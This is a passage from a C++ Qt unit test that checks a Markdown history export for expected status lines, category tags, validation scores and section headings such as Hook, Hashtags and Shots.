        words.validation = [](int score, int errors, int warnings) {
            return QStringLiteral("v %1/%2/%3").arg(score).arg(errors).arg(warnings);
        };
        const QString md = QString::fromUtf8(toMarkdown({entry}, words));
        QVERIFY(md.contains(QStringLiteral("**<Status>:** status:in_review")));
        QVERIFY(md.contains(QStringLiteral("c:awareness · c:question · c:curiosity · c:en")));
        QVERIFY(md.contains(QStringLiteral("v %1/%2/%3")
                                    .arg(entry.record.score)
                                    .arg(entry.record.errors)
                                    .arg(entry.record.warnings)));
        for (const char* heading : {"## <Hook>", "## <Hashtags>", "## <On-screen text>", "## <Shots>", "| <Time> |"})
            QVERIFY2(md.contains(QLatin1String(heading)), heading);
    }
};

QTEST_GUILESS_MAIN(TestHistoryExport)
#include "tst_historyexport.moc"
